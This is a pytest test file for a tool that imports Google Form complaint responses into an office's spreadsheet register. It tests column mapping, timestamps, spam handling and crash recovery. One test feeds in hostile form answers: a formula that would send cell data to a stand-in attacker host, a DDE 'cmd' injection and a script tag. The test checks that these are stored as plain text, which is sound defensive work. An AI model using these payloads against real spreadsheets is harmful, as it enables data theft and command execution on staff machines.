"""Online form responses (issue 12): a Google Form's responses tab, as an office
downloads it into the xlsx register, through real cycles on a frozen clock."""

from __future__ import annotations

import os
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from aduan.config import FORM_QUESTIONS, FormsCfg
from aduan.core.layout import HISTORY_TAB, REGISTER_TAB, C
from aduan.errors import RegisterError
from aduan.inbox.forms import map_columns, parse_time, response_id, responses_to_mails
from aduan.run.cycle import run_cycle
from aduan.support.crash import CRASH_ENV
from tests.test_cycle import FIRST_TASK, SCRIPTS, deliver, outbox, rows, setup_office, staff_edit

WIB = ZoneInfo("Asia/Jakarta")
T0 = datetime(2026, 11, 2, 8, 0, tzinfo=WIB)  # a Monday, office hours
TAB = "Form Responses 1"
QUESTIONS = [
    "Timestamp",
    "Nama Lengkap",
    "Alamat Email",
    "Nomor HP/WhatsApp",
    "NIK",
    "Lokasi Kejadian",
    "Kategori Aduan",
    "Isi Aduan",
    "Rahasiakan Identitas",
    "Bukti Pendukung",
]


def answer(n: int, minute: int = 0, **over: object) -> dict[str, object]:
    """One response as Google Forms stores it (a naive local timestamp)."""
    a: dict[str, object] = {
        "Timestamp": datetime(2026, 11, 2, 7, 30 + minute, n % 60),
        "Nama Lengkap": f"Warga {n}",
        "Alamat Email": "warga@contoh.id",
        "Nomor HP/WhatsApp": f"0812-0000-{n:04d}",
        "NIK": "",
        "Lokasi Kejadian": f"RT {n} Desa Jatipuro",
        "Kategori Aduan": "Bencana",
        "Isi Aduan": f"Pohon tumbang nomor {n} menutup jalan desa.",
        "Rahasiakan Identitas": "",
        "Bukti Pendukung": "",
    }
    a.update(over)
    return a


def put_responses(path: Path, answers: list[dict], order: list[str] = QUESTIONS) -> None:
    """Write (or replace) the responses tab of the register, columns in ``order``."""
    wb = openpyxl.load_workbook(path)
    if TAB in wb.sheetnames:
        wb.remove(wb[TAB])
    ws = wb.create_sheet(TAB)
    ws.append(order)
    for a in answers:
        ws.append([a.get(q, "") for q in order])
    for row in ws.iter_rows(min_row=2):
        for c in row:
            if isinstance(c.value, str) and c.value.startswith("="):
                c.data_type = "s"  # a respondent's "=..." is text in the form's sheet too
    wb.save(path)


def form_office(make_settings, name: str = "bpbd", **forms):
    setup_office(make_settings, name)
    s = make_settings(name, forms={"tab": TAB, **forms})
    return s, s.path(s.register_.path)


def cfg(**kw) -> FormsCfg:
    return FormsCfg(tab=TAB, **kw)


def batch(table, now=T0, known=frozenset(), **kw):
    return responses_to_mails(
        table,
        cfg(**kw),
        tz=WIB,
        now=now,
        categories=["Bencana", "Lainnya"],
        columns={C.CATEGORY, C.CONFIDENTIAL, C.CONTACT},
        known=set(known),
    )


# ------------------------------------------------------------ pure functions
def test_columns_are_found_by_question_text_in_any_order_and_case():
    cols, extras, problems = map_columns(
        ["Isi aduan ", "STEMPEL WAKTU", "Nama  Lengkap", "Alamat email"], FORM_QUESTIONS
    )
    assert cols == {"isi": 0, "timestamp": 1, "nama": 2, "email": 3}
    assert extras == [] and problems == []


def test_unknown_and_repeated_questions_are_reported_not_guessed():
    cols, extras, problems = map_columns(
        ["Timestamp", "Isi Aduan", "No WA", "Nama", "Nama Lengkap"], FORM_QUESTIONS
    )
    assert cols == {"timestamp": 0, "isi": 1, "nama": 3}
    assert extras == [2, 4]
    assert any("'No WA'" in p for p in problems)
    assert any("'Nama Lengkap' muncul dua kali" in p for p in problems)
    # the office names its own extra question: no problem any more
    q = {**FORM_QUESTIONS, "lainnya": ["No WA"], "nama": ["Nama"]}
    assert map_columns(["Timestamp", "Isi Aduan", "No WA", "Nama"], q)[2] == []


def test_response_id_ignores_question_order_and_blank_new_questions():
    a = response_id("2026-11-02T07:30:00", ["Budi", "banjir", "b@x.id"])
    assert a == response_id("2026-11-02T07:30:00", ["b@x.id", "Budi", "banjir", ""])
    assert a != response_id("2026-11-02T07:30:01", ["b@x.id", "Budi", "banjir"])
    assert a != response_id("2026-11-02T07:30:00", ["b@x.id", "Budi", "banjir besar"])


def test_sheet_timestamps_in_either_locale_read_as_the_recent_date():
    now = datetime(2026, 11, 25, 15, 0, tzinfo=WIB)
    want = datetime(2026, 11, 25, 14, 3, 12, tzinfo=WIB)
    assert parse_time("25/11/2026 14:03:12", WIB, now) == want
    assert parse_time("11/25/2026 14:03:12", WIB, now) == want
    # both readings in the past (5 Nov / 11 May): the later one wins
    assert parse_time("05/11/2026 09:00:00", WIB, now) == datetime(2026, 11, 5, 9, tzinfo=WIB)
    assert parse_time("12/11/2026 09:00:00", WIB, now) == datetime(2026, 11, 12, 9, tzinfo=WIB)
    assert parse_time("bukan tanggal", WIB, now) is None
    # Google Forms' .csv download
    assert parse_time("2026/11/25 2:03:12 PM GMT+7", WIB, now) == want
    assert parse_time("2026/11/25 7:03:12 AM GMT", WIB, now) == want
    assert parse_time("2026/11/25 12:03:12 AM GMT+8", WIB, now) == datetime(
        2026, 11, 24, 23, 3, 12, tzinfo=WIB
    )


def test_a_response_becomes_a_complaint_with_its_fields():
    table = [
        QUESTIONS,
        [
            "2026-11-02T07:31:00",
            "Siti",
            "siti@contoh.id",
            "0812 111",
            "3313000000000001",
            "Dusun Sukuh",
            "bencana",
            "Longsor di tebing.\nMohon dicek.",
            "Ya, rahasiakan identitas saya",
            "https://drive.google.com/open?id=abc",
        ],
    ]
    (m,) = batch(table).mails
    assert m.channel == "Formulir Online" and m.kind == "complaint"
    assert m.from_addr == "siti@contoh.id" and m.from_name == "Siti"
    assert m.date == datetime(2026, 11, 2, 7, 31, tzinfo=WIB)
    assert m.message_id.startswith("<form-") and m.source_key.startswith("form:")
    assert m.subject == "Bencana"
    assert m.text.startswith("Longsor di tebing.\nMohon dicek.")
    assert "Lokasi kejadian: Dusun Sukuh" in m.text
    assert "3313000000000001" not in m.text, "NIK stays with the identity, never in the text"
    assert m.fields[C.CONTACT] == "siti@contoh.id\n0812 111\nNIK: 3313000000000001"
    assert m.fields[C.CATEGORY] == "Bencana"
    assert m.fields[C.CONFIDENTIAL] == "Ya"
    assert m.fields[C.ATTACHMENTS] == "https://drive.google.com/open?id=abc"
    (att,) = m.attachments
    assert att.filename == "formulir-asli.txt" and b"3313000000000001" in att.data


def test_blank_known_and_before_since_responses_are_left_out():
    table = [
        QUESTIONS,
        ["2026-11-02T07:31:00"] + [""] * 9,
        ["2026-10-01T07:31:00", "Lama", "", "", "", "", "", "Aduan lama", "", ""],
        ["2026-11-02T07:32:00", "Baru", "", "", "", "", "", "Aduan baru", "", ""],
        ["2026-11-02T07:33:00", "Ada", "", "", "", "", "", "Sudah dicatat", "", ""],
    ]
    first = batch(table).mails
    known = {first[-1].message_id}
    b = batch(table, known=known, since=datetime(2026, 11, 1).date())
    assert [m.from_name for m in b.mails] == ["Baru"]
    assert b.counts["form_blank"] == 1 and b.counts["form_before_since"] == 1


def test_spam_burst_keeps_only_the_first():
    base = ["", "Spammer", "s@contoh.id", "", "", "", "", "BELI SEKARANG", "", ""]
    table = [QUESTIONS]
    for i in range(25):
        table.append([f"2026-11-02T07:40:{i * 2:02d}"] + base[1:])
    table.append(["2026-11-02T07:40:10", "Lain", "lain@contoh.id"] + base[3:])  # other contact
    b = batch(table, spam_limit=20)
    assert [m.from_name for m in b.mails] == ["Spammer", "Lain"]
    assert b.mails[0].date == datetime(2026, 11, 2, 7, 40, tzinfo=WIB)
    assert b.counts["form_spam"] == 24 and "spam" in b.log[0]
    # next cycle: the first is in the register; its repeats are still repeats
    again = batch(table, spam_limit=20, known={m.message_id for m in b.mails})
    assert again.mails == [] and again.counts["form_spam"] == 24
    # under the limit, repeats are people, not spam
    assert len(batch(table[:6], spam_limit=20).mails) == 5


def test_missing_description_question_registers_nothing():
    table = [["Timestamp", "Nama Lengkap", "Ceritakan masalah Anda"], ["x", "Budi", "Banjir"]]
    b = batch(table)
    assert b.mails == []
    assert any("'Isi Aduan'" in p and "tidak ditemukan" in p for p in b.problems)
    assert any("'Ceritakan masalah Anda'" in p for p in b.problems)


# ------------------------------------------------------------ through cycles
def test_new_responses_registered_once_whatever_staff_do_to_the_tab(make_settings):
    s, reg = form_office(make_settings)
    put_responses(reg, [answer(1), answer(2, 1, **{"Alamat Email": ""}), answer(3, 2)])
    rep = run_cycle(s, now=T0)
    assert rep.problems == [], rep.problems
    got = rows(reg)
    assert [r[C.TICKET] for r in got] == [f"ADU/2026/11/000{i}" for i in (1, 2, 3)]
    assert {r[C.CHANNEL] for r in got} == {"Formulir Online"}
    assert [r[C.NAME] for r in got] == ["Warga 1", "Warga 2", "Warga 3"]
    assert got[0][C.CONTACT] == "warga@contoh.id\n0812-0000-0001"
    assert got[1][C.CONTACT] == "0812-0000-0002"
    assert got[0][C.RECEIVED] == "02/11/2026 07.30"
    assert got[0][C.CATEGORY] == "Bencana"
    assert "Lokasi kejadian: RT 1 Desa Jatipuro" in got[0][C.TEXT]
    assert all(r[C.SOURCE].startswith("<form-") for r in got)
    # the acknowledgement goes to the form's email; the phone-only one gets none
    acks = [m for m in outbox(s) if m["To"] == "warga@contoh.id"]
    assert sorted(
        t for m in acks for t in ("ADU/2026/11/0001", "ADU/2026/11/0003") if t in m["Subject"]
    ) == ["ADU/2026/11/0001", "ADU/2026/11/0003"]
    events = [h for h in rows(reg, HISTORY_TAB) if h["Peristiwa"] == "Aduan diterima"]
    assert all("tanggapan formulir online" in h["Keterangan"] for h in events)
    lampiran = s.path(s.paths.attachments) / "2026" / "ADU-2026-11-0001" / "formulir-asli.txt"
    assert "Warga 1" in lampiran.read_text(encoding="utf-8")

    # staff sort the tab newest first, delete a row, move the questions around,
    # and a new response arrives
    order = [QUESTIONS[0], *reversed(QUESTIONS[1:])]
    put_responses(reg, [answer(4, 5), answer(3, 2), answer(1)], order=order)
    rep = run_cycle(s, now=T0 + timedelta(minutes=5))
    assert rep.problems == [], rep.problems
    got = rows(reg)
    assert [r[C.NAME] for r in got] == ["Warga 1", "Warga 2", "Warga 3", "Warga 4"]
    assert rep.counts["form_new"] == 1
    # nothing new: nothing registered, the register file is left alone
    run_cycle(s, now=T0 + timedelta(minutes=6))
    mtime = reg.stat().st_mtime_ns
    rep = run_cycle(s, now=T0 + timedelta(minutes=7))
    assert reg.stat().st_mtime_ns == mtime and rep.counts["form_new"] == 0


def test_renamed_question_is_reported_and_mail_still_flows(make_settings):
    s, reg = form_office(make_settings)
    renamed = ["Ceritakan masalah Anda" if q == "Isi Aduan" else q for q in QUESTIONS]
    put_responses(reg, [{**answer(1), "Ceritakan masalah Anda": "Banjir"}], order=renamed)
    deliver(s, "m1", b"From: a@contoh.id\r\nSubject: Jalan rusak\r\n\r\nMohon diperbaiki.\r\n")
    rep = run_cycle(s, now=T0)
    assert any("'Ceritakan masalah Anda'" in p for p in rep.problems)
    assert any("'Isi Aduan'" in p for p in rep.problems)
    assert [r[C.CHANNEL] for r in rows(reg)] == ["Email"]
    # the admin maps the new text: the waiting response is registered, once
    s2 = make_settings("bpbd", forms={"tab": TAB, "questions": {"isi": "Ceritakan masalah Anda"}})
    for minute in (1, 2):
        rep = run_cycle(s2, now=T0 + timedelta(minutes=minute))
        assert rep.problems == [], rep.problems
    assert [r[C.CHANNEL] for r in rows(reg)] == ["Email", "Formulir Online"]
    assert rows(reg)[1][C.TEXT].startswith("Banjir")


def test_missing_tab_is_a_problem_not_a_crash(make_settings):
    s, reg = form_office(make_settings)
    deliver(s, "m1", b"From: a@contoh.id\r\nSubject: Jalan rusak\r\n\r\nMohon diperbaiki.\r\n")
    rep = run_cycle(s, now=T0)
    assert any(f"tab '{TAB}' tidak ditemukan" in p for p in rep.problems)
    assert len(rows(reg)) == 1


def test_spam_and_hostile_answers(make_settings):
    s, reg = form_office(make_settings, spam_limit=20, max_answer=1000)
    hostile = [
        answer(1, **{"Isi Aduan": '=HYPERLINK("http://jahat.example/?"&A1,"klik")'}),
        answer(2, 1, **{"Nama Lengkap": "+cmd|' /C calc'!A0", "Isi Aduan": "@SUM(1+1)"}),
        answer(3, 2, **{"Isi Aduan": "x" * 30_000, "Lokasi Kejadian": "y" * 9000}),
        answer(4, 3, **{"Alamat Email": "bukan email <script>", "Kategori Aduan": "Lain-lain"}),
        {"Timestamp": datetime(2026, 11, 2, 7, 34)},  # submitted blank
    ]
    spam = [
        answer(9, 10, **{"Timestamp": datetime(2026, 11, 2, 7, 40, i), "Isi Aduan": "PROMO"})
        for i in range(30)
    ]
    put_responses(reg, hostile + spam)
    rep = run_cycle(s, now=T0)
    assert rep.problems == [], rep.problems
    assert rep.counts["form_spam"] == 29 and rep.counts["form_blank"] == 1
    got = rows(reg)
    assert len(got) == 5
    assert got[0][C.TEXT].startswith("=HYPERLINK(")
    assert got[1][C.NAME] == "+cmd|' /C calc'!A0" and got[1][C.TEXT].startswith("@SUM")
    assert got[2][C.TEXT].startswith("x" * 4000 + "\n[… isi aduan dipotong dari 30000 karakter")
    assert "lokasi kejadian dipotong dari 9000 karakter" in got[2][C.TEXT]
    # an unusable email is kept for staff but gets no acknowledgement
    assert got[3][C.CONTACT].startswith("bukan email <script>")
    assert got[3][C.CATEGORY] == "" and "Kategori (dari formulir): Lain-lain" in got[3][C.TEXT]
    assert got[4][C.TEXT].startswith("PROMO")
    acks = [m["To"] for m in outbox(s) if "pengadu" in str(m.get("X-Aduan-Kind", "pengadu"))]
    assert "bukan email <script>" not in " ".join(str(a) for a in acks)
    # formulas stay text in the file itself, not only in what calamine shows
    ws = openpyxl.load_workbook(reg)[REGISTER_TAB]
    cols = {c.value: c.column for c in ws[1]}
    cell = ws.cell(row=2, column=cols[C.TEXT])
    assert cell.data_type == "s" and str(cell.value).startswith("=HYPERLINK")
    # the full answers are kept beside the complaint
    full = s.path(s.paths.attachments) / "2026" / "ADU-2026-11-0003" / "formulir-asli.txt"
    assert "x" * 30_000 in full.read_text(encoding="utf-8")
    # and the next run registers nothing more
    rep = run_cycle(s, now=T0 + timedelta(minutes=1))
    assert len(rows(reg)) == 5 and rep.counts["form_new"] == 0


def test_control_characters_and_numbers_from_a_sheet_become_plain_text():
    table = [
        ["Timestamp", "Isi Aduan", "Nomor HP/WhatsApp"],
        ["25/11/2026 07:00:00", "Teks\x00dengan\x07kontrol\r\nbaris", 81234567.0],
    ]
    (m,) = batch(table, now=datetime(2026, 11, 25, 8, tzinfo=WIB)).mails
    assert m.text == "Teksdengankontrol\nbaris"
    assert m.fields[C.CONTACT] == "81234567"


def test_run_killed_after_the_register_write_registers_nothing_twice(make_settings):
    s, reg = form_office(make_settings)
    put_responses(reg, [answer(1), answer(2, 1)])
    cmd = [
        sys.executable,
        "-c",
        "from aduan.cli import cli; cli.main(prog_name='aduan')",
        "--config",
        s.file,
        "run",
        "--now",
        "2026-11-02T08:00",
    ]
    killed = subprocess.run(cmd, env={**os.environ, CRASH_ENV: "after_write"}, check=False)
    assert killed.returncode == -9
    assert len(rows(reg)) == 2, "the write landed before the kill"
    assert outbox(s) == [], "killed before anything was sent"
    again = subprocess.run(cmd, env={k: v for k, v in os.environ.items() if k != CRASH_ENV})
    assert again.returncode == 0
    assert [r[C.TICKET] for r in rows(reg)] == ["ADU/2026/11/0001", "ADU/2026/11/0002"]
    to = sorted(m["To"] for m in outbox(s))
    assert to == ["petugas@bpbd.example.go.id"] * 2 + ["warga@contoh.id"] * 2


@pytest.mark.parametrize("name", ["bpbd", "blitar"])
def test_sop_end_to_end_from_a_form_response(make_settings, name):
    s, reg = form_office(make_settings, name)
    put_responses(reg, [answer(1, Timestamp=datetime(2026, 11, 2, 7, 59))])
    rep = run_cycle(s, now=T0)
    assert rep.problems == [], rep.problems
    ((row,),) = [rows(reg)]
    ticket = row[C.TICKET]
    assert row[C.CHANNEL] == "Formulir Online"
    assert sorted(m["To"] for m in outbox(s)) == sorted(["warga@contoh.id", FIRST_TASK[name]])
    script = SCRIPTS[name]
    if name == "bpbd":  # Kategori came from the form: step 3 (record it) passes at once
        script = [({"Perlu Tindak Lanjut": "Ya"}, "4.", "kalak@bpbd.example.go.id"), *script[2:]]
    now = T0
    for cells, tahap, notified in script:
        seen = {m["Message-ID"] for m in outbox(s)}
        staff_edit(reg, ticket, cells)
        now += timedelta(minutes=3)
        rep = run_cycle(s, now=now)
        assert rep.problems == [], rep.problems
        (row,) = rows(reg)
        assert row[C.STEP].startswith(tahap), row[C.STEP]
        new = [m for m in outbox(s) if m["Message-ID"] not in seen]
        assert notified in [m["To"] for m in new], (cells, [m["To"] for m in new])
    assert row[C.STATUS] == "Selesai"
    assert len(rows(reg)) == 1, "the response was registered once through the whole SOP"


# ------------------------------------------------------------ Google Sheets
SHEET_ROWS = [
    ["Stempel waktu", "Isi Aduan", "Nama Lengkap", "Alamat Email"],
    ["02/11/2026 07:58:10", "Jembatan retak", "Budi", "budi@contoh.id"],
    ["02/11/2026 07:59:30", "Banjir di pasar", "Sri", "sri@contoh.id"],
]


def sheets_office(make_settings, tmp_path, server, forms_in_other: bool = False):
    from aduan.core.layout import build_layout
    from tests.test_register_sheets import key_file

    key = server.create_spreadsheet("Register", tabs=["Sheet1", TAB])
    other = server.create_spreadsheet("Formulir", tabs=[TAB]) if forms_in_other else ""
    s = make_settings(
        "bpbd",
        register={
            "type": "google",
            "spreadsheet_id": key,
            "credentials_file": str(key_file(tmp_path)),
        },
        forms={"tab": TAB, "spreadsheet_id": other},
    )
    layout = build_layout(s.load_sop(), s.categories)

    def register():
        from aduan.run.wiring import sheets_register

        return sheets_register(s, layout, client=server.client(), backoff_s=0.001)

    register().init()
    server.set_cells(other or key, TAB, SHEET_ROWS)
    server.reset_counts()
    return s, key, register


@pytest.mark.parametrize("other", [False, True], ids=["same-spreadsheet", "other-spreadsheet"])
def test_responses_from_a_google_sheet_registered_once(
    make_settings, tmp_path, sheets_server, other
):
    s, key, register = sheets_office(make_settings, tmp_path, sheets_server, other)
    rep = run_cycle(s, now=T0, register=register())
    assert rep.problems == [], rep.problems
    table = sheets_server.cells(key, REGISTER_TAB)
    head = table[0]
    got = [dict(zip(head, r, strict=False)) for r in table[1:]]
    assert [(r[C.NAME], r[C.CHANNEL]) for r in got] == [
        ("Budi", "Formulir Online"),
        ("Sri", "Formulir Online"),
    ]
    assert got[0][C.RECEIVED] == "02/11/2026 07.58"
    # in the register's spreadsheet the responses come with the register's own read;
    # in another one they cost one read more, whatever their number
    gets = [r for r in sheets_server.requests if r.kind == "values.batchGet"]
    assert len(gets) == (2 if other else 1)
    # staff sort the responses newest first: nothing new
    rows_sorted = [SHEET_ROWS[0], SHEET_ROWS[2], SHEET_ROWS[1]]
    sheets_server.set_cells(s.forms.spreadsheet_id or key, TAB, rows_sorted)
    sheets_server.reset_counts()
    rep = run_cycle(s, now=T0 + timedelta(minutes=1), register=register())
    assert rep.problems == [] and rep.counts["form_new"] == 0
    assert len(sheets_server.cells(key, REGISTER_TAB)) == 3
    # steady state (the send records of the first emails are in Riwayat now)
    sheets_server.reset_counts()
    run_cycle(s, now=T0 + timedelta(minutes=2), register=register())
    kinds = [r.kind for r in sheets_server.requests]
    assert kinds == ["values.batchGet"] * (2 if other else 1), kinds


def test_missing_responses_tab_in_the_sheet_is_a_problem_not_a_failed_read(
    make_settings, tmp_path, sheets_server
):
    s, key, register = sheets_office(make_settings, tmp_path, sheets_server)
    sid = sheets_server.sheet_id(key, TAB)
    sheets_server.apply(key, [{"deleteSheet": {"sheetId": sid}}])
    deliver(s, "m1", b"From: a@contoh.id\r\nSubject: Jalan rusak\r\n\r\nMohon diperbaiki.\r\n")
    rep = run_cycle(s, now=T0, register=register())
    assert [p for p in rep.problems if "formulir online" in p and TAB in p], rep.problems
    assert len(rep.problems) == 1
    table = sheets_server.cells(key, REGISTER_TAB)
    assert len(table) == 2 and "Email" in table[1]


def test_extra_tab_read_with_the_register_costs_nothing_more(make_settings):
    from aduan.core.model import Snapshot
    from aduan.inbox.forms import read_responses
    from aduan.run.wiring import form_reader

    s = make_settings("bpbd", forms={"tab": TAB, "file": "/nonexistent/never-read.xlsx"})
    read = form_reader(s, None)  # a file reader: no register needed
    snap = Snapshot(headers=[], rows=[], extra={TAB: SHEET_ROWS})
    assert read_responses(s.forms, snap, read) is SHEET_ROWS
    with pytest.raises(RegisterError, match="never-read.xlsx"):
        read_responses(s.forms, Snapshot(headers=[], rows=[]), read)


def test_responses_from_a_downloaded_csv(make_settings, tmp_path):
    s, reg = form_office(make_settings, file=str(tmp_path / "jawaban.csv"))
    csv_text = (
        '"Timestamp","Nama Lengkap","Isi Aduan","Alamat Email"\r\n'
        '"2026/11/02 7:58:00 AM GMT+7","Budi","Jalan ""ambles"", mohon dicek","budi@contoh.id"\r\n'
    )
    (tmp_path / "jawaban.csv").write_bytes(b"\xef\xbb\xbf" + csv_text.encode())
    for minute in (0, 1):
        rep = run_cycle(s, now=T0 + timedelta(minutes=minute))
        assert rep.problems == [], rep.problems
    (row,) = rows(reg)
    assert row[C.TEXT] == 'Jalan "ambles", mohon dicek' and row[C.RECEIVED] == "02/11/2026 07.58"


def test_a_response_naming_a_ticket_is_a_new_complaint_not_a_reply(make_settings):
    s, reg = form_office(make_settings)
    put_responses(reg, [answer(1, Timestamp=datetime(2026, 11, 2, 7, 59))])
    run_cycle(s, now=T0)
    (first,) = rows(reg)
    again = answer(
        2,
        Timestamp=datetime(2026, 11, 2, 8, 3),
        Perihal=f"{first[C.TICKET]} belum ditangani [balas: abcdefghjkmnpqrs]",
    )
    order = [*QUESTIONS, "Perihal"]  # the same email and the ticket in the subject
    put_responses(reg, [answer(1, Timestamp=datetime(2026, 11, 2, 7, 59)), again], order=order)
    for minute in (5, 10):
        rep = run_cycle(s, now=T0 + timedelta(minutes=minute))
        assert rep.problems == [], rep.problems
    got = rows(reg)
    assert [r[C.TICKET] for r in got] == ["ADU/2026/11/0001", "ADU/2026/11/0002"]
    assert got[1][C.SUBJECT].startswith(first[C.TICKET])


def test_a_google_form_tab_with_an_xlsx_register_is_a_problem_not_a_crash(make_settings):
    s, reg = form_office(make_settings, spreadsheet_id="1AbCdEfGhIjKlMnOp")
    deliver(s, "m1", b"From: a@contoh.id\r\nSubject: Jalan rusak\r\n\r\nMohon diperbaiki.\r\n")
    rep = run_cycle(s, now=T0)
    assert rep.problems == [
        "formulir online: forms.spreadsheet_id membutuhkan kredensial Google: register.type google"
    ]
    assert [r[C.CHANNEL] for r in rows(reg)] == ["Email"]  # the mail still flows
